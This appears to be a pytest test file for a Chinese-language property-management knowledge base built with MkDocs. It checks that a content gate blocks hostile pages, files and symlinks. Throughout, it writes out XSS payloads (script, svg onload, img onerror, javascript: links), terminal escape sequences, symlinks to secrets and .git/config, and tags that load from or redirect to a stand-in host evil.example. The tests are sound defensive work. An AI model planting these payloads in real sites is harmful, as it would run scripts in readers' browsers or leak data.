"""What an editor's pull request can put in docs/ (issue 12), planted in a copy of the repository:
`kb check` names the file and the rule, and the build (the loader, through the site hooks) stops
on the same thing. The HTML gate itself is tested in test_site_safety.py and, in Chromium, below."""

from __future__ import annotations

import datetime as dt
import os
import re

import pytest

from kb_tools import gate
from kb_tools.checks import run_checks
from kb_tools.cli import main
from kb_tools.errors import PageError
from kb_tools.pages import MAX_PAGE_BYTES, load_library, scan_docs

from conftest import ROOT

SOAKED = "docs/compensation/soaked-floor.md"


def findings_of(project, *files: str) -> list[str]:
    return [str(f) for f in run_checks(project, list(files) or None, today=dt.date(2026, 11, 26)).findings]


def build_error(project) -> str:
    """What the build says: the site hooks load the library first (mkdocs' on_config)."""
    from mkdocs.config import load_config
    from mkdocs.exceptions import PluginError

    from kb_tools import mkdocs_hooks

    config = load_config(str(project.config_path), site_dir=str(project.root / "site"))
    with pytest.raises(PluginError) as caught:
        mkdocs_hooks.on_config(config)
    return str(caught.value)


# -- files docs/ may not hold --------------------------------------------------------------------

def plant_file(project, rel: str, content: bytes = b"x") -> None:
    path = project.docs_dir / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


@pytest.mark.parametrize("rel, content, wording", [
    ("evil.html", b"<script>alert(1)</script>", "docs/ 里不能放这种文件（.html）"),
    ("assets/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "docs/ 里不能放这种文件（.svg）"),
    ("law/notes.markdown", b"---\ntitle: x\n---\n<script>alert(1)</script>\n", "docs/ 里不能放这种文件（.markdown）"),
    ("assets/site.css", b"@import url(https://evil.example/x.css);", "docs/ 里不能放这种文件（.css）"),
    ("law/<img src=x onerror=alert(1)>.md", b"---\ntitle: x\n---\n", "文件名“<img src=x onerror=alert(1)>.md”不符合规则"),
    ("law/Water Outage.md", b"---\ntitle: x\n---\n", "文件名“Water Outage.md”不符合规则"),
])
def test_files_that_do_not_belong_in_docs_are_refused(site, rel, content, wording):
    plant_file(site, rel, content)
    expected = f"docs/{rel}:1: KB110: "
    assert [f for f in findings_of(site) if f.startswith(expected)] == [f for f in findings_of(site) if wording in f]
    assert any(f.startswith(expected) and wording in f for f in findings_of(site))
    assert f"{rel}: " in build_error(site) and wording in build_error(site)


def test_a_symlink_to_a_file_outside_the_repository_is_refused_not_published(site, tmp_path):
    secret = tmp_path / "secret.md"
    secret.write_text("---\ntitle: 机密\n---\n密钥 sk-123\n", encoding="utf-8")
    os.symlink(secret, site.docs_dir / "law" / "leak.md")
    os.symlink(ROOT / ".git" / "config", site.docs_dir / "law" / "git-config.md")
    found = findings_of(site)
    assert [f.split(": ", 2)[:2] for f in found if "KB110" in f] == [
        ["docs/law/git-config.md:1", "KB110"], ["docs/law/leak.md:1", "KB110"]]
    assert all("符号链接" in f for f in found if "KB110" in f)
    assert "law/git-config.md: 这是一个符号链接（symlink）" in build_error(site)
    assert "leak.md" not in {p for p in scan_docs(site.docs_dir).pages}


def test_a_symlink_loop_is_a_clear_error_not_a_traceback(site, capsys):
    os.symlink("..", site.docs_dir / "law" / "loop")
    assert "docs/law/loop:1: KB110: 这是一个符号链接（symlink）" in "\n".join(findings_of(site))
    assert "law/loop: 这是一个符号链接" in build_error(site)
    assert main(["check", "--fix"]) == 1
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "docs/law/loop:1: KB110:" in out


def test_fix_leaves_a_symlinked_page_alone_without_a_traceback(site, tmp_path, capsys):
    target = tmp_path / "outside.md"
    original = "---\ntitle: 外面\n---\n中文,标点\n"
    target.write_text(original, encoding="utf-8")
    os.symlink(target, site.docs_dir / "law" / "outside.md")
    assert main(["check", "--fix", "docs/law/outside.md"]) == 1
    out, err = capsys.readouterr()
    assert out.startswith("docs/law/outside.md:1: KB110: 这是一个符号链接（symlink）。") and "Traceback" not in out + err
    assert target.read_text(encoding="utf-8") == original


def test_a_page_over_the_size_limit_is_refused_before_it_is_read_line_by_line(site):
    page = site.docs_dir / "compensation" / "soaked-floor.md"
    page.write_text(page.read_text(encoding="utf-8") + "很长的正文。" * (MAX_PAGE_BYTES // 18 + 10), encoding="utf-8")
    found = findings_of(site)
    assert [f for f in found if f.startswith(SOAKED)] == [
        f"{SOAKED}:1: KB111: 页面有 {page.stat().st_size / 1000:,.0f} KB，超过了 100 KB 的上限。"
        "读者多用手机、网络常常很慢：请把页面拆小（长页面拆成几个问题页）。"]
    assert "compensation/soaked-floor.md: 页面有" in build_error(site)


def test_an_image_over_its_limit_is_refused(site):
    plant_file(site, "assets/images/photo.png", b"\x89PNG" + b"0" * 600_000)
    assert any(f.startswith("docs/assets/images/photo.png:1: KB111: 图片有 600 KB") for f in findings_of(site))


def test_a_small_image_is_welcome(site):
    plant_file(site, "assets/images/water-meter.png", b"\x89PNG\r\n\x1a\n")
    assert not [f for f in findings_of(site) if "photo" in f or "water-meter" in f]
    assert "assets/images/water-meter.png" not in scan_docs(site.docs_dir).pages  # an image, not a page
    load_library(site.docs_dir)


# -- titles, wherever they come from -------------------------------------------------------------

@pytest.mark.parametrize("heading, char", [
    ("# 参考 `<svg onload=alert(document.domain)>`", "<"),
    ("# &lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;", "&"),
    ('# 参考 "引用"', '"'),
])
def test_a_title_taken_from_the_first_heading_is_checked_like_a_front_matter_title(site, heading, char):
    (site.docs_dir / "law" / "reference.md").write_text(f"---\ndescription: 参考资料\n---\n\n{heading}\n\n正文。\n",
                                                         encoding="utf-8")
    message = (f"docs/law/reference.md:5: KB101: 用作页面标题的第一个标题中的 `{char}` 会被网站当作网页代码，"
               "可能在读者的浏览器里运行脚本。")
    assert any(f.startswith(message) for f in findings_of(site)), findings_of(site)
    assert "law/reference.md:5: 用作页面标题的第一个标题中的" in build_error(site)


def test_a_page_without_title_or_heading_takes_its_file_name(site):
    (site.docs_dir / "law" / "reference.md").write_text("正文。\n", encoding="utf-8")
    assert load_library(site.docs_dir).pages["law/reference.md"].title == "reference"


def test_front_matter_the_theme_would_act_on_is_refused_on_every_page(site):
    page = site.docs_dir / "about.md"
    page.write_text(page.read_text(encoding="utf-8").replace("---\n", "---\ntemplate: ../../evil.html\n", 1),
                    encoding="utf-8")
    assert any(f.startswith("docs/about.md:2: KB101: 未知字段 `template`。") for f in findings_of(site))


@pytest.mark.parametrize("entry", ['../privacy/find-owner-contact.md#"><img src=x onerror=alert(1)>',
                                   "javascript:alert(1)", "../privacy/find-owner-contact.md#a b"])
def test_related_entries_are_plain_relative_paths(site, entry):
    page = site.docs_dir / "compensation" / "soaked-floor.md"
    text = page.read_text(encoding="utf-8")
    quoted = "'" + entry.replace("'", "''") + "'"
    text = re.sub(r"^related:\n(  - .*\n)+", f"related: [{quoted}]\n", text, flags=re.M)
    page.write_text(text, encoding="utf-8")
    with pytest.raises(PageError, match="不是页面的相对路径"):
        load_library(site.docs_dir)
    assert any(f.startswith(f"{SOAKED}:") and "KB101" in f and "不是页面的相对路径" in f for f in findings_of(site))


# -- the gate's output in a real browser -----------------------------------------------------------

@pytest.mark.browser
def test_what_the_gate_lets_through_runs_nothing_and_loads_nothing_in_chromium(browser):
    """Every planted construct, as readers would receive it after the gate: no dialog, no request
    to another host. The same HTML as parsed (nothing taken away) does run: the attacks are real."""
    from test_site_safety import INJECTIONS

    import markdown

    md = markdown.Markdown(extensions=["attr_list", "admonition", "md_in_html", "tables", "fenced_code"])
    bodies = [md.reset().convert(body) for body, *_ in INJECTIONS.values()]

    def visit(html: str) -> tuple[list[str], list[str]]:
        dialogs, outside = [], []
        page = browser.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.route("**/*", lambda route: (outside.append(route.request.url), route.abort()))
        page.goto("about:blank")
        page.set_content(f"<!doctype html><html><body>{html}</body></html>", wait_until="load")
        page.evaluate("document.querySelectorAll('a').forEach("
                      "a => a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})))")
        page.wait_for_timeout(300)
        page.close()
        return dialogs, outside

    assert visit("".join(gate.allowed(b) for b in bodies)) == ([], [])
    dialogs, outside = visit("".join(gate.as_parsed(b) for b in bodies))
    assert dialogs and any("evil.example" in url for url in outside)


# -- text out: the terminal and the search data ---------------------------------------------------

TERMINAL_ATTACK = "\x1b]0;被改的窗口标题\x07\x1b[2J\x9b31m漏水清屏测试\u202e反向"


def test_control_characters_in_a_page_never_reach_the_terminal(site, capsys):
    page = site.docs_dir / "compensation" / "soaked-floor.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n{TERMINAL_ATTACK}\n", encoding="utf-8")
    assert main(["show", "compensation/soaked-floor.md"]) == 0
    shown = capsys.readouterr().out
    assert main(["search", "漏水清屏测试"]) == 0
    found = capsys.readouterr().out
    for out in (shown, found):
        assert "漏水清屏测试" in out
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), repr(out)


def test_control_characters_in_front_matter_are_a_page_error(site):
    page = site.docs_dir / "compensation" / "soaked-floor.md"
    page.write_text(page.read_text(encoding="utf-8").replace("title: 家里地板被水泡了，物业要负责吗？",
                                                             'title: "\\e[2J家里地板被水泡了，物业要负责吗？"', 1), encoding="utf-8")
    assert any(f.startswith(f"{SOAKED}:2: KB101: 字段 `title` 中有看不见的控制字符（U+001B）") for f in findings_of(site))


def test_site_search_data_holds_text_without_control_characters():
    from kb_tools.site_search import sections_from_html

    html = ("<h2 id=\"a\">标题\x1b[2J</h2><p>正文 <code>&lt;img src=x onerror=alert(1)&gt;</code>\x9b31m</p>"
            "<p>\u202e反向</p>")
    sections = sections_from_html(html)
    assert [(s.anchor, s.title, s.text) for s in sections] == [("a", "标题[2J", "正文 <img src=x onerror=alert(1)>31m\n反向")]


# What looks like an attack but passes the gate, because readers receive it as text or inert code.
LOOKALIKES = """
示例代码：`<img src=x onerror=alert(1)>` 和 `[点](javascript:alert(2))` 只是文字。

```html
<script>alert(3)</script><img src="https://evil.example/x.png">
```

```mermaid
graph TD; A-->B
```

点这里 { onmouseover="alert(4)" } 也是文字。

    <svg onload=alert(5)>

*[物业]: 物业服务企业 <img src=x onerror=alert(6)>

[外站的普通链接](https://evil.example/page) 可以保留。
"""


@pytest.mark.browser
def test_what_passes_the_gate_is_harmless_on_the_built_site(site, tmp_path, browser):
    from browser import build_site, open_tab, serve

    page = site.docs_dir / "compensation" / "soaked-floor.md"
    page.write_text(page.read_text(encoding="utf-8") + LOOKALIKES, encoding="utf-8")
    assert [f for f in findings_of(site) if ": KB3" in f] == []
    out = tmp_path / "built"
    build_site(out, site.root)
    with serve(out) as base:
        tab = open_tab(browser, base, "desktop")
        dialogs: list[str] = []
        tab.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        tab.page.goto(base + "compensation/soaked-floor/", wait_until="networkidle")
        tab.page.hover("text=也是文字")
        tab.page.evaluate("document.querySelectorAll('article a, article abbr').forEach("
                          "a => a.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))")
        tab.page.wait_for_timeout(300)
        text = tab.page.inner_text("article")
        requests = tab.requests.foreign
        tab.close()
    assert dialogs == [] and requests == []
    assert "<img src=x onerror=alert(1)>" in text and "<script>alert(3)</script>" in text


# -- found by an attacker's review: what MkDocs reads around the loader ---------------------------

def test_multimarkdown_metadata_is_refused_not_handed_to_the_theme(site):
    (site.docs_dir / "law" / "notes.md").write_text(
        'author: `"><script>alert(1)</script>`\ntitle: `</title><script>alert(2)</script>`\n\n# 说明\n\n正文。\n',
        encoding="utf-8")
    assert [f for f in findings_of(site) if "notes.md" in f] == [
        "docs/law/notes.md:1: KB101: 页面的第一行是 `名称: 值` 的形式，网站会把它当作页面信息，而不检查。页面信息请写在两行 `---` 之间"
        "（见 CONTRIBUTING.md 的“页面信息”）；如果这是正文，请换一种开头。"]
    assert "law/notes.md:1: 页面的第一行" in build_error(site)


def test_a_setext_first_heading_is_the_title_and_is_checked(site):
    index = site.docs_dir / "service" / "index.md"
    text = index.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*\n", "", text, count=1, flags=re.M)
    text = text.replace("---\n\n", "---\n\n沟通与投诉 &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n=====\n\n", 1)
    index.write_text(text, encoding="utf-8")
    assert any(f.startswith("docs/service/index.md:") and "KB101: 用作页面标题的第一个标题中的 `&`" in f
               for f in findings_of(site))


def test_the_theme_is_given_the_loaders_title_and_nothing_else(site, tmp_path):
    """Whatever MkDocs would take as the title (a setext heading here), the theme prints the loader's."""
    from browser import build_site

    index = site.docs_dir / "service" / "index.md"
    text = index.read_text(encoding="utf-8")
    index.write_text(text.replace("---\n\n", "---\n\n另一个标题\n=====\n\n", 1), encoding="utf-8")
    out = tmp_path / "built"
    build_site(out, site.root)
    html = (out / "service" / "index.html").read_text(encoding="utf-8")
    assert "<title>沟通与投诉 - 物业知识库</title>" in html


@pytest.mark.parametrize("page, problem", [
    ('<title>a </title><style>@import url(//evil.example/t.css);</style><script>alert(1)</script> - x</title>',
     [("KB311", "标签 `<style>`"), ("KB311", "网站主题之外的脚本 `alert(1)`")]),
    ('<meta name="author" content=""><script>alert("author")</script>', [("KB311", '网站主题之外的脚本 `alert("author")`')]),
    ('<base href="https://evil.example/">', [("KB311", "标签 `<base>`")]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', [("KB311", "标签 `<meta>`")]),
    ('<a href="/x" ping="https://evil.example/p">x</a>', [("KB314", "`<a>` 上的 `ping` 属性")]),
    ('<form action="https://evil.example/"><input name=q></form>', [("KB311", "提交到 `https://evil.example/` 的表单")]),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', [("KB314", '从其他网站加载的 `<link rel="stylesheet">`：https://evil.example/x.css')]),
    ('<img src="//evil.example/x.png">', [("KB314", "从其他网站加载的 `<img src>`：//evil.example/x.png")]),
])
def test_the_whole_page_audit_finds_what_a_template_could_carry(page, problem):
    assert gate.audit_page(page) == problem


def test_the_real_site_passes_the_whole_page_audit(built_site):
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) >= 15
    assert {str(p): gate.audit_page(p.read_text(encoding="utf-8")) for p in pages} == {str(p): [] for p in pages}
